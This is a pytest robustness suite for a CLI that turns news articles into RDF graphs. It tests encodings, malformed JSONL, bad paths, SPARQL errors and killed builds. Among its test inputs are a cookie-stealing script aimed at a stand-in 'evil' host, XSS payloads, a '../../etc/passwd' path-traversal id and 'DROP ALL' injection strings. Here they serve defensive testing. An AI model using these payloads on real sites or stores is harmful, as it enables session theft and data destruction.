"""Robustness: bad input never crashes kg and never corrupts what it wrote.

Every case ends in exit 0 with RDF that rdflib and pyoxigraph both read (a bad
article is skipped and reported), or in exit 2 with a one-line message naming
the problem: never a traceback, never a half-written file. A build killed at
any moment (SIGKILL) leaves the earlier output and the cache whole, and a
re-run completes; two builds into one folder exclude each other.

Builds run in-process through the CLI (``typer.testing.CliRunner``: the model
is loaded once), except the killed and concurrent ones, which are subprocesses.
"""

from __future__ import annotations

import codecs
import json
import os
import random
import re
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from kg.cli.app import app

from tests.conftest import lee_articles
from tests.stores.test_security import FakeServer, closed_port, ox_quads, rdflib_quads

runner = CliRunner()
IS_STRING = "http://persistence.uni-leipzig.org/nlp2rdf/ontologies/nif-core#isString"
IDENTIFIER = "https://schema.org/identifier"
ROOT = Path(__file__).resolve().parent.parent
AS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0


def run(*args: str, input: str | bytes | None = None):
    """The CLI in-process; wide columns, so rich wraps no line (messages are checked whole)."""
    return runner.invoke(app, [str(a) for a in args], input=input, env={"COLUMNS": "10000"})


def flat(text: str) -> str:
    """Output with rich's line wrapping undone (see test_skip_messages_are_one_line)."""
    return " ".join(text.split())


def assert_one_line_error(result, *words: str) -> None:
    """Exit 2 and exactly one line, 'error: ...', naming the problem; no traceback."""
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert result.exit_code == 2, (result.exit_code, result.output, result.exception)
    assert len(lines) == 1 and lines[0].startswith("error: "), result.output
    assert "Traceback" not in result.output
    for word in words:
        assert word in lines[0], (word, lines[0])


def texts_of(out: Path, formats: tuple[str, ...] = ("ttl", "trig")) -> dict[str, str]:
    """identifier -> nif:isString of every article, the same in every format and both parsers."""
    from kg.rdf.formats import FORMATS

    found = None
    for name in formats:
        path = out / FORMATS[name]
        for quads, value in ((rdflib_quads(path, name), str), (ox_quads(path, name), None)):
            triples = [(str(s), str(p), str(o)) for s, p, o in quads] if value else [
                (q.subject.value, q.predicate.value, q.object.value) for q in quads]
            ids = {s: o for s, p, o in triples if p == IDENTIFIER}
            texts = {s: o for s, p, o in triples if p == IS_STRING}
            pairs = {ids[s]: texts.get(s) for s in ids}
            if name == "xml":
                expected = {k: re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "\ufffd", v)
                            for k, v in (found or {}).items()}
                assert found is None or pairs == expected, name
                continue
            assert found is None or pairs == found, f"{name} disagrees"
            found = pairs
    return found or {}


def expected_text(text: str) -> str:
    """What ingest keeps: NULs dropped, newlines normalised, nothing else."""
    return text.replace("\x00", "").replace("\r\n", "\n").replace("\r", "\n")


# --------------------------------------------------------------------------- files of every kind

PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"
       b"\x00\x00\x00\x0cIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xdb\x00C\x00" + bytes(range(64)) + b"\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
LATIN = "Le président français a déclaré à Paris que trois personnes ont été tuées. Ça suffit, a-t-il dit."
WESTERN = "The minister said “three people were killed” – in Nairobi… The damage was €5 million, officials said."
ZURICH = "Police said “five people” were killed in Zürich on Monday, the ministry’s spokesman told reporters."
BIG = ("Gunmen stormed the Westgate mall in Nairobi on Saturday, killing 39 people, police said. " * 60_000)[:5_000_000]
SKIP = object()

FILE_CASES = {
    # name: (file name, bytes, expected text | (SKIP, message) | None for "either")
    "empty": ("empty.txt", b"", (SKIP, "empty article")),
    "whitespace-only": ("blank.md", " \n\t\r\n\u3000\u00a0\u2028 ".encode(), (SKIP, "empty article")),
    "binary": ("data.txt", bytes(range(256)) * 8, (SKIP, "not a text file")),
    "png-image": ("image.png", PNG, (SKIP, "not a text file")),
    "jpeg-image": ("photo.jpg", JPEG, (SKIP, "not a text file")),
    "gif-image": ("anim.gif", GIF, None),  # no NUL-free decoding guarantee: text or skipped, both fine
    "latin-1": ("latin1.txt", LATIN.encode("latin-1"), LATIN),
    "cp-1252": ("cp1252.txt", WESTERN.encode("cp1252"), WESTERN),
    "utf-16-le-bom": ("utf16le.txt", codecs.BOM_UTF16_LE + ZURICH.encode("utf-16-le"), ZURICH),
    "utf-16-be-bom": ("utf16be.txt", codecs.BOM_UTF16_BE + ZURICH.encode("utf-16-be"), ZURICH),
    "utf-8-bom": ("bom.txt", codecs.BOM_UTF8 + ZURICH.encode(), ZURICH),
    "utf-32-bom": ("utf32.txt", ZURICH.encode("utf-32"), ZURICH),
    "utf-16-bom-odd-bytes": ("broken16.txt", codecs.BOM_UTF16_LE + b"a\x00b", (SKIP, "not a text file")),
    "html": ("page.html", b'<html><head><title>T</title><script>var x = "<p>no</p>";</script></head><body>'
                          b"<nav>Menu</nav><article><p>Gunmen killed 3 people in <b>Nairobi</b>, police said.</p>"
                          b"</article></body></html>", "Gunmen killed 3 people in Nairobi, police said."),
    "html-latin-1-meta": ("latin.html", b'<meta charset="iso-8859-1"><p>' + LATIN.encode("latin-1") + b"</p>", LATIN),
    "html-broken-markup": ("broken.html", b"<<<>>> <p>Police said <b><i>3 people died</p></div></span> <!-- x", None),
    "html-script-only": ("script.html", b"<script>alert(1)</script><style>p{}</style>", (SKIP, "empty article")),
    "html-deep-nesting": ("deep.html", b"<div>" * 20_000 + b"Police said 3 people died." + b"</div>" * 20_000,
                          "Police said 3 people died."),
    "5-MB-article": ("big.txt", BIG.encode(), (SKIP, "input too large")),  # never read whole
    "10,000-character-token": ("token.txt", ("Police said " + "x" * 10_000 + " people died.").encode(),
                               "Police said " + "x" * 10_000 + " people died."),
    "10,000-character-hyphenated-token": ("hyphen.txt", ("Officials said " + "ab-" * 3_334 + " died.").encode(),
                                          "Officials said " + "ab-" * 3_334 + " died."),
    "crlf-and-cr": ("crlf.txt", b"Police said\r\n3 people\rdied.\r\n", "Police said\n3 people\ndied.\n"),
}


@pytest.mark.model
@pytest.mark.parametrize("case", list(FILE_CASES))
def test_input_files_of_every_kind(tmp_path, case):
    name, data, expected = FILE_CASES[case]
    source = tmp_path / name
    source.write_bytes(data)
    out = tmp_path / "out"
    result = run("build", source, "-o", out, "--no-cache")
    assert result.exit_code == 0, (result.output, result.exception)
    texts = texts_of(out)
    if isinstance(expected, tuple):
        assert texts == {}
        assert f"skipped {source}: {expected[1]}" in flat(result.output)
    elif expected is not None:
        assert list(texts.values()) == [expected]


# --------------------------------------------------------------------------- nasty text

TEXT_CASES = {
    "control-characters": "Police\x01 said\x02\x03\x07\x08 that\x0b\x0c three\x0e\x1b[31m\x1f people\x7f\x80\x85\x9f died.",
    "nul": "Police\x00 said\x00 four people died.\x00",
    "line-and-paragraph-separators": "Gunmen attacked\u2028the mall\u2029in Nairobi.\u0085 Police said 5 died.",
    "right-to-left": "مسلحون هاجموا مركز تسوق في نيروبي. Police said 12 people were killed. שלום עולם. اردو",
    "bidi-controls": "\u202eKABUL\u202c \u2066x\u2069 \u200f\u200e\u202a\u202b\u202d\u061c Gunmen killed 7 people.",
    "emoji": "🔥🔥 Gunmen 👨‍👩‍👧‍👦 stormed the Westgate mall 🏬 in Nairobi 🇰🇪, killing 39 people 💀, police said 👍🏽.",
    "combining-marks": "Z\u0334\u0321\u0322a\u0337l\u0338g\u0336o\u0335 attacked Nai\u0301robi. Jose\u0301 said 4 were "
                       "kil\u0336led\u20dd." + "\u0300" * 50,
    "zero-width-and-bom": "\ufeffGun\u200bmen\u200c kil\u200dled 3 peo\u2060ple in La\u00adgos, police said.\ufeff",
    "noncharacters-and-private-use": "\ufffe\uffff\ufdd0 Police said \ue000\U000f0000 3 died \U0010ffff\U0001fffe.",
    "astral-planes": "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𠜎𠜱 𓀀 Police said 𝟓 people were killed.",
    "unicode-whitespace": "Police\u00a0said\u2003three\u3000people\u205fdied\u1680in\u202fKabul.",
    "turtle-syntax": '@prefix x: <http://evil.example/> . x:a x:b "c"^^<x> ; <> """t""" . } GRAPH <g> { _:b0 <p> '
                     '_:b1 . \\u0022 Police said 3 were killed.',
    "sparql-syntax": 'DROP ALL ; INSERT DATA { <a> <b> "c" } SELECT * WHERE { ?s ?p ?o } # Police said 5 died.',
    "json-syntax": '{"text": "x", "id": "../../etc/passwd", "@context": "http://evil/"} [1, null] '
                   "Police said two were killed.",
    "html-syntax": '<script>alert("x")</script><img src=x onerror=alert(1)> &amp; &lt;b&gt; Gunmen killed 3 in '
                   "<b>Paris</b>.",
    "quotes-of-every-kind": "He said \"yes\", she said 'no', “maybe” ‘perhaps’ «oui» „ja“ 「はい」 『え』 ``ok'' ″x″.",
    "backslashes": "C:\\Windows\\System32 \\\\server\\share \\n \\t \\u0041 \\x41 \\ Police said 2 died. \\",
    "triple-quotes": 'He said """hello""" and \'\'\'bye\'\'\' then \\""" and """"""" end. Police said 6 died.',
    "script-tags": "<script>document.location='http://evil/'+document.cookie</script></script><script",
    "names-with-apostrophes-and-hyphens": "Sean O'Brien, D'Angelo O’Neill, Mary-Jane Smith-Jones and "
                                          "Jean-Luc Picard-O'Hara of al-Shabaab's wing said 3 people died.",
    "huge-numbers": "Police said " + "9" * 5_000 + " people and 1,000,000,000,000,000,000,000 others died; 1e999.",
    "odd-dates": "On 31 February 2013, on 0000-00-00, in 10000 BC and at 25:61 gunmen killed 4, police said.",
    "mixed-scripts-in-one-word": "Nаirоbi (Cyrillic а and о) Ｆｕｌｌｗｉｄｔｈ ﬁre ﷺ said 3 died.",
}


def _jsonl(lines: list[dict]) -> str:
    return "\n".join(json.dumps(line, ensure_ascii=i % 2 == 0) for i, line in enumerate(lines)) + "\n"


@pytest.mark.model
@pytest.mark.parametrize("case", list(TEXT_CASES))
def test_nasty_text_round_trips_in_every_format(tmp_path, case):
    """As a .txt file and as a JSONL line (with the text as title and url too): exit 0,
    and every format gives the text back exactly in rdflib and pyoxigraph."""
    text = TEXT_CASES[case]
    (tmp_path / "a.txt").write_text(text, encoding="utf-8", newline="")
    (tmp_path / "b.jsonl").write_text(_jsonl([{"id": f"b {case}", "text": text, "title": text[:100],
                                               "url": text[:100], "published": "2013-09-22"}]), encoding="utf-8")
    out = tmp_path / "out"
    result = run("build", tmp_path / "a.txt", tmp_path / "b.jsonl", "-o", out, "--no-cache",
                 "--format", "ttl,trig,nq,nt,jsonld,xml")
    assert result.exit_code == 0, (result.output, result.exception)
    texts = texts_of(out, ("ttl", "trig", "nq", "nt", "jsonld", "xml"))
    assert texts[f"b {case}"] == expected_text(text)
    as_file = expected_text(text.removeprefix("\ufeff"))  # in a file, a leading U+FEFF is the UTF-8 BOM
    assert sorted(texts.values()) == sorted([expected_text(text), as_file])


@pytest.mark.model
def test_nasty_texts_conform_to_the_shapes(tmp_path):
    from kg.query.validate import format_report, validate

    lines = [{"id": f"case {name}", "text": text, "title": text[:80], "published": "2013-09-22"}
             for name, text in TEXT_CASES.items()]
    (tmp_path / "all.jsonl").write_text(_jsonl(lines), encoding="utf-8")
    result = run("build", tmp_path / "all.jsonl", "-o", tmp_path / "out", "--no-cache")
    assert result.exit_code == 0, (result.output, result.exception)
    conforms, report, _ = validate([tmp_path / "out"])
    assert conforms, format_report(report)


@pytest.mark.model
@pytest.mark.parametrize("text", [
    '"Arafat has been weakened by the "" harassment of the Israeli "" army ...',
    "Al-Shabaab claimed responsibility for the attack, and the Taliban claimed responsibility for the bombing.",
], ids=["broken-quotes", "two-claims"])
def test_one_record_per_span(tmp_path, text):
    from kg.query.validate import format_report, validate

    (tmp_path / "a.txt").write_text(text, encoding="utf-8")
    assert run("build", tmp_path / "a.txt", "-o", tmp_path / "out", "--no-cache").exit_code == 0
    conforms, report, _ = validate([tmp_path / "out"])
    assert conforms, format_report(report)


@pytest.mark.model
@pytest.mark.parametrize("first, second", [
    ("The ABC reported that three people died in Sydney.", "Police told the Abc that two people died."),
    ("Fires burned near Cessnock on Monday, police said.", "Cessnock said 3 homes were lost."),
], ids=["label-case", "category"])
def test_an_entity_named_differently_by_two_articles(tmp_path, first, second):
    """Merged by key across articles, an entity still has one label and one category."""
    from kg.query.validate import format_report, validate

    (tmp_path / "c.jsonl").write_text(_jsonl([{"id": "a", "text": first}, {"id": "b", "text": second}]))
    assert run("build", tmp_path / "c.jsonl", "-o", tmp_path / "out", "--no-cache").exit_code == 0
    conforms, report, _ = validate([tmp_path / "out"])
    assert conforms, format_report(report)


@pytest.mark.model
@pytest.mark.parametrize("published", ["2013-09-22T10:00:00Z", "2013-09-22T10:00:00+03:00", "0001-01-01T00:00:00+14:00",
                                       "9999-12-31T23:59:59-12:00"])
def test_timezone_aware_published_datetime(tmp_path, published):
    """A time resolved against a timezone-aware publication date (kg/extract/events.py once raised TypeError)."""
    (tmp_path / "a.txt").write_text("At 10:00 on Monday, gunmen killed 6 people.", encoding="utf-8")
    result = run("build", tmp_path / "a.txt", "-o", tmp_path / "out", "--published", published, "--no-cache")
    assert result.exit_code == 0, result.exception


@pytest.mark.model
@pytest.mark.slow
@pytest.mark.parametrize("char", ["!", "'", "%", "🔥"])
def test_10000_character_punctuation_token(tmp_path, char):
    """spaCy's tokenizer strips suffix characters one at a time (quadratic): ~30 s each, but exit 0."""
    (tmp_path / "a.txt").write_text(f"Police said {char * 10_000} 3 people died.", encoding="utf-8")
    started = time.monotonic()
    result = run("build", tmp_path / "a.txt", "-o", tmp_path / "out", "--no-cache")
    assert result.exit_code == 0 and time.monotonic() - started < 120


# --------------------------------------------------------------------------- stdin


@pytest.mark.model
@pytest.mark.parametrize("data, args, expected", [
    (bytes(range(256)) * 4, [], "skipped <stdin>: not a text file"),
    (ZURICH.encode("utf-16"), [], None),
    (b"", [], "skipped <stdin>: empty article"),
    (b'{"text": "Police said 3 died."}\n{"text": \n', ["--jsonl"], "skipped <stdin>:2: invalid JSON"),
])
def test_stdin(tmp_path, data, args, expected):
    result = run("build", "-", *args, "-o", tmp_path / "out", "--no-cache", input=data)
    assert result.exit_code == 0, (result.output, result.exception)
    texts_of(tmp_path / "out")
    if expected:
        assert expected in flat(result.output)


# --------------------------------------------------------------------------- paths


def _unreadable(tmp_path: Path, kind: str) -> Path:
    if kind == "missing":
        return tmp_path / "no" / "such" / "file.txt"
    if kind == "fifo":
        path = tmp_path / "pipe.txt"
        os.mkfifo(path)
        return path
    if kind == "broken-link-in-folder":
        folder = tmp_path / "folder"
        folder.mkdir()
        (folder / "gone.txt").symlink_to(tmp_path / "nowhere.txt")
        return folder
    if kind == "io-error":
        if not Path("/proc/self/mem").exists():
            pytest.skip("no /proc/self/mem")
        return Path("/proc/self/mem")
    if kind == "no-permission":
        if AS_ROOT:
            pytest.skip("root reads any file")
        path = tmp_path / "secret.txt"
        path.write_text("x")
        path.chmod(0)
        return path
    if kind == "folder-no-permission":
        if AS_ROOT:
            pytest.skip("root lists any folder")
        folder = tmp_path / "locked"
        (folder / "sub").mkdir(parents=True)
        (folder / "sub").chmod(0)
        return folder
    raise AssertionError(kind)


@pytest.mark.parametrize("kind, words", [
    ("missing", ["does not exist"]),
    ("fifo", ["not a regular file"]),
    ("broken-link-in-folder", ["gone.txt", "does not exist"]),
    ("io-error", ["cannot read input", "/proc/self/mem"]),
    ("no-permission", ["cannot read input", "permission"]),
    ("folder-no-permission", ["cannot read folder"]),
])
def test_input_that_does_not_exist_or_cannot_be_read(tmp_path, kind, words):
    path = _unreadable(tmp_path, kind)
    result = run("build", path, "-o", tmp_path / "out")
    assert_one_line_error(result, *words)
    assert not (tmp_path / "out" / "graph.ttl").exists()


@pytest.mark.parametrize("name", ["[/x].txt", "[bold]x[/bold].txt", "a\\[b].txt", "new\nline.txt", "tab\t.txt",
                                  "\u202eevil.txt", "%s%n{0}.txt", "--.txt"])
def test_error_messages_show_odd_paths_as_they_are(tmp_path, monkeypatch, name):
    """A message is text, never markup or a format string: the path comes out whole, on one line."""
    monkeypatch.chdir(tmp_path)
    result = run("build", "-o", "out", "--", name)
    assert_one_line_error(result, "does not exist")
    shown = "".join(c if c.isprintable() else repr(c)[1:-1] for c in name)  # controls escaped: one line, no bidi
    assert f"input '{shown}'" in result.output


def _bad_output(tmp_path: Path, kind: str) -> Path:
    if kind == "a-file":
        path = tmp_path / "out.txt"
        path.write_text("keep me")
        return path
    if kind == "under-a-file":
        (tmp_path / "file").write_text("keep me")
        return tmp_path / "file" / "out"
    if kind == "not-writable":
        if AS_ROOT:
            return Path("/proc/kg-test-output")  # even root cannot create folders in /proc
        folder = tmp_path / "ro"
        folder.mkdir()
        folder.chmod(stat.S_IRUSR | stat.S_IXUSR)
        return folder / "out"
    raise AssertionError(kind)


@pytest.mark.parametrize("kind, words", [
    ("a-file", ["is a file"]),
    ("under-a-file", ["cannot write to output folder", "Not a directory"]),
    ("not-writable", ["cannot write to output folder"]),
])
def test_output_that_is_a_file_or_not_writable(tmp_path, kind, words):
    (tmp_path / "a.txt").write_text("Police said 3 people died.")
    out = _bad_output(tmp_path, kind)
    result = run("build", tmp_path / "a.txt", "-o", out)
    assert_one_line_error(result, str(out), *words)
    for path in tmp_path.rglob("*"):
        if path.is_file() and path.name in ("out.txt", "file"):
            assert path.read_text() == "keep me"


@pytest.mark.model
def test_output_file_that_is_a_folder_fails_before_writing_anything(tmp_path):
    (tmp_path / "a.txt").write_text("Police said 3 people died.")
    out = tmp_path / "out"
    assert run("build", tmp_path / "a.txt", "-o", out).exit_code == 0
    before = (out / "graph.trig").read_bytes()
    (out / "graph.ttl").unlink()
    (out / "graph.ttl").mkdir()
    (tmp_path / "a.txt").write_text("Officials said 5 people died in Kabul.")
    result = run("build", tmp_path / "a.txt", "-o", out)
    assert_one_line_error(result, "graph.ttl", "folder")
    assert (out / "graph.trig").read_bytes() == before
    assert [p.name for p in out.iterdir() if p.name.endswith(".part")] == []


@pytest.mark.parametrize("value", ["22/09/2013", "2013-02-30", "2013-13-01", "yesterday", "2013-09-22T25:00",
                                   "2013-09-22T10:00+25:00", "99999-01-01", "\x00", "2013-09-22 extra", "🔥", "-1"])
def test_malformed_published(tmp_path, value):
    (tmp_path / "a.txt").write_text("Police said 3 people died.")
    result = run("build", tmp_path / "a.txt", "-o", tmp_path / "out", "--published", value)
    assert_one_line_error(result, "--published", "YYYY-MM-DD")
    assert not (tmp_path / "out").exists()


BAD_LINES = {
    "not-json": ('{"text": "unterminated', "invalid JSON"),
    "not-an-object": ("[1, 2, 3]", "expected a JSON object, got an array"),
    "no-text": ('{"title": "x"}', 'missing "text"'),
    "text-not-a-string": ('{"text": 5}', '"text" is a number'),
    "number-too-long": ('{"text": "x", "id": ' + "9" * 5_000 + "}", "invalid JSON"),
    "nested-too-deeply": ("[" * 100_000 + "]" * 100_000, "invalid JSON"),
    "unpaired-surrogate": ('{"text": "Police said \\ud800 died."}', "text has an unpaired surrogate"),
    "bad-published": ('{"text": "Police said 3 died.", "published": "yesterday"}', "invalid published"),
    "published-a-number": ('{"text": "Police said 3 died.", "published": 20130922}', "invalid published"),
    "bad-title": ('{"text": "Police said 3 died.", "title": {"a": 1}}', "invalid title"),
    "bad-id": ('{"text": "Police said 3 died.", "id": [1]}', "invalid id"),
    "empty-text": ('{"text": "  \\n "}', "empty article"),
    "nul-bytes": ("\x00\x00", "invalid JSON"),
    "colliding-id": ('{"text": "Officials said 9 died.", "id": "GOOD-1"}', "id 'GOOD-1' gives the same IRIs as"),
    "reserved-id": ('{"text": "Officials said 9 died.", "id": "Build"}', "id 'Build' gives the same IRIs as the build graph"),
    "wordless-id": ('{"text": "Officials said 9 died.", "id": "\\u0000 !?"}', "id '\\x00 !?' has no letter or digit"),
}


@pytest.mark.model
@pytest.mark.parametrize("case", list(BAD_LINES))
def test_malformed_jsonl_line_is_named_by_file_and_line(tmp_path, case):
    line, message = BAD_LINES[case]
    corpus = tmp_path / "corpus.jsonl"
    corpus.write_text('{"id": "good-1", "text": "Police said 3 people died."}\n' + line
                      + '\n{"id": "good-3", "text": "Officials said 4 people died."}\n', encoding="utf-8")
    result = run("build", corpus, "-o", tmp_path / "out")
    assert result.exit_code == 0, (result.output, result.exception)
    assert f"skipped {corpus}:2: {message}" in flat(result.output)
    assert set(texts_of(tmp_path / "out")) == {"good-1", "good-3"}
    strict = run("build", corpus, "-o", tmp_path / "strict", "--on-error", "fail")
    assert_one_line_error(strict, f"{corpus}:2:", message)


def test_skip_reason_that_is_not_utf_8_is_still_text(tmp_path):
    corpus = tmp_path / "corpus.jsonl"
    corpus.write_bytes(b'{"text": "Police said 3 died in Z\xfcrich."}\n')  # Latin-1 inside a JSONL line
    result = run("build", corpus, "-o", tmp_path / "out")
    assert result.exit_code == 0, (result.output, result.exception)


def test_skip_messages_are_one_line(tmp_path):
    corpus = tmp_path / "corpus.jsonl"
    corpus.write_text('{"text": "Police said 3 died.", "published": "the day before yesterday, in the morning"}\n')
    result = runner.invoke(app, ["build", str(corpus), "-o", str(tmp_path / "out"), "-q"], env={"COLUMNS": "80"})
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith(f"skipped {corpus}:1: invalid published")


# --------------------------------------------------------------------------- queries and stores


@pytest.mark.parametrize("query, words", [
    ("SELECT ?x WHERE {", ["invalid SPARQL"]),
    ("SELECT * WHERE { ?s ?p ?o } LIMIT x", ["invalid SPARQL"]),
    ("DROP ALL", ["invalid SPARQL"]),
    ('INSERT DATA { <a> <b> "c" }', ["invalid SPARQL"]),
    ("ASK { ?s ?p ?o", ["invalid SPARQL"]),  # ASK, CONSTRUCT and DESCRIBE run: tests/cli/test_cli_conventions.py
    ("CONSTRUCT { ?s ?p ?o } WHERE { ?s ?p }", ["invalid SPARQL"]),
    ("SELECT * WHERE { ?s undeclared:p ?o }", ["invalid SPARQL"]),
    ("SELECT ?x WHERE { BIND(\"\x00\u2028\" AS ?x) } \\", ["invalid SPARQL"]),
    ("   ", ["empty query"]),
    ("no/such/query.rq", ["does not exist"]),
])
def test_malformed_sparql_query(one_triple_build, query, words):
    result = run("query", query, "--data", one_triple_build)
    assert_one_line_error(result, *words)


def test_query_over_a_corrupt_build(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "graph.trig").write_bytes(b'<a> <b> "unterminated .\n\x00\xff')
    assert_one_line_error(run("query", "SELECT * WHERE { ?s ?p ?o }", "--data", out), "cannot read", "graph.trig")
    assert_one_line_error(run("validate", out), "cannot read", "graph.trig")


@pytest.fixture(params=["refused", "timeout", "http-404", "http-500", "http-400", "not-sparql-json",
                        "invalid-url", "no-scheme"])
def broken_store(request):
    kind = request.param
    server = None
    if kind == "refused":
        url = f"http://127.0.0.1:{closed_port()}/store"
    elif kind in ("invalid-url", "no-scheme"):
        url = "http://[not-an-ip/store" if kind == "invalid-url" else "localhost:7878/store"
    else:
        status = {"http-404": 404, "http-500": 500, "http-400": 400}.get(kind, 200)
        server = FakeServer(status=status, delay=3 if kind == "timeout" else 0,
                            body=b"<html><body>Internal\nerror</body></html>" if status == 500 else b"not json",
                            content_type="text/html" if status == 500 else "text/plain")
        url = server.url + "/store"
    yield kind, url
    if server:
        server.close()


def test_store_that_refuses_times_out_or_errs(one_triple_build, broken_store):
    kind, url = broken_store
    load = run("load", one_triple_build, "--store-url", url, "--timeout", "0.5")
    if kind == "not-sparql-json":  # a Graph Store answering 200 to a PUT is a success
        assert load.exit_code == 0, load.output
    else:
        assert_one_line_error(load)
    query = run("query", "SELECT * WHERE { ?s ?p ?o }", "--endpoint", url.replace("/store", "/query"),
                "--timeout", "0.5")
    assert_one_line_error(query)


# --------------------------------------------------------------------------- killed and concurrent builds


def _corpus(tmp_path: Path, count: int, name: str) -> Path:
    path = tmp_path / name
    lines = [{"id": f"lee-{i}", "text": text, "published": "2001-12-01"} for i, text in enumerate(lee_articles()[:count])]
    path.write_text(_jsonl(lines), encoding="utf-8")
    return path


def _kg(*args: object) -> list[str]:
    return [sys.executable, "-m", "kg.cli", *map(str, args)]


def _env() -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k != "SOURCE_DATE_EPOCH"}
    env["PYTHONPATH"] = str(ROOT) + os.pathsep + env.get("PYTHONPATH", "")
    return env


def _outputs(out: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(out.glob("graph.*"))}


def _check_cache(out: Path) -> int:
    entries = [p for p in (out / ".kg-cache").rglob("*") if p.is_file() and not p.name.startswith(".")]
    for entry in entries:
        data = entry.read_bytes()
        assert data.startswith(b"# kg ") and data.endswith(b"\n"), entry
    return len(entries)


@pytest.mark.model
def test_killed_builds_keep_earlier_output_and_cache_whole(tmp_path, monkeypatch):
    """SIGKILL at random moments: graph.* stay the earlier build's (or become the new one,
    complete), no visible temp file, every cache entry whole; a re-run completes with the
    output of a clean build and removes the killed builds' temp files.

    Temp files (``.spool.*.nq.part``, ``.graph.ttl.*.part``, ``.entry.*.part``) start with a
    dot; a killed build may leave them, and the next build into the folder removes them.
    """
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    corpus = _corpus(tmp_path, 60, "lee.jsonl")
    early = _corpus(tmp_path, 8, "early.jsonl")
    out = tmp_path / "out"
    assert run("build", early, "-o", out, "-q").exit_code == 0
    before = _outputs(out)
    assert set(before) == {"graph.ttl", "graph.trig"}

    started = time.monotonic()  # the reference: a clean build, timed
    subprocess.run(_kg("build", corpus, "-o", tmp_path / "ref", "--no-cache", "-q"), env=_env(), check=True,
                   timeout=300)
    full = time.monotonic() - started
    reference = _outputs(tmp_path / "ref")

    rng = random.Random(4711)
    delays = [0.5, 1.5, 3.0] + sorted(rng.uniform(0.5, 1.0) * full for _ in range(3))
    outcomes = []
    for delay in delays:
        process = subprocess.Popen(_kg("build", corpus, "-o", out, "-q"), env=_env(),
                                   stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        try:
            process.wait(delay)
        except subprocess.TimeoutExpired:
            process.send_signal(signal.SIGKILL)
        stderr = process.communicate(timeout=60)[1]
        outcomes.append(process.returncode)
        assert process.returncode in (0, -signal.SIGKILL), stderr.decode(errors="replace")
        for name, data in _outputs(out).items():
            assert data in (before[name], reference[name]), f"{name} is neither the earlier nor the new output"
        visible = [p for p in out.rglob("*") if p.name.endswith(".part") and not p.name.startswith(".")]
        assert visible == []
        _check_cache(out)
    assert -signal.SIGKILL in outcomes

    rerun = run("build", corpus, "-o", out, "-q")
    assert rerun.exit_code == 0, (rerun.output, rerun.exception)
    assert _outputs(out) == reference
    assert _check_cache(out) == 60
    assert [p for p in out.rglob(".*.part")] == []


def test_stale_temp_files_are_removed_but_not_others(tmp_path):
    out = tmp_path / "out"
    (out / ".kg-cache" / "ab").mkdir(parents=True)
    stale = [out / ".spool.x1.nq.part", out / ".graph.ttl.x2.part", out / ".graph.trig.x3.part",
             out / ".kg-cache" / "ab" / ".entry.x4.part"]
    kept = [out / ".notes.part", out / "draft.part", out / ".kg-cache" / "ab" / "ab12.nq"]
    for path in stale + kept:
        path.write_text("x")
    (tmp_path / "empty.txt").write_text("")
    result = run("build", tmp_path / "empty.txt", "-o", out)
    assert result.exit_code == 0, result.output
    assert [p for p in stale if p.exists()] == [] and all(p.exists() for p in kept)


@pytest.mark.model
def test_two_builds_into_one_folder(tmp_path):
    corpus = _corpus(tmp_path, 60, "lee.jsonl")
    out = tmp_path / "out"
    process = subprocess.Popen(_kg("build", corpus, "-o", out, "-q"), env=_env(),
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while not list(out.glob(".spool.*")) and process.poll() is None and time.monotonic() < deadline:
            time.sleep(0.05)  # the spool appears once the first build holds the lock
        assert process.poll() is None, "the first build ended before the second started"
        second = run("build", corpus, "-o", out, "-q")
        assert_one_line_error(second, "another kg build is writing to", str(out))
    finally:
        process.kill()
        process.wait()
    assert not (out / "graph.ttl").exists()  # the second build wrote nothing either


@pytest.mark.parametrize("error", [OSError(28, "No space left on device", "out/.spool.x.nq.part"),
                                   UnicodeEncodeError("utf-8", "\udcff", 0, 1, "surrogates not allowed")])
def test_environment_errors_are_one_line(tmp_path, monkeypatch, error):
    """An unforeseen OSError or UnicodeError (disk full while spooling...) is one line, exit 2."""
    def fail(*args, **kwargs):
        raise error

    monkeypatch.setattr("kg.build._build_graph", fail)
    (tmp_path / "empty.txt").write_text("")
    result = run("build", tmp_path / "empty.txt", "-o", tmp_path / "out")
    assert_one_line_error(result)
    assert ("No space left on device" if isinstance(error, OSError) else "surrogates") in result.output
    assert not (tmp_path / "out" / "graph.ttl").exists()
    assert [p.name for p in (tmp_path / "out").iterdir() if p.name.endswith(".part")] == []
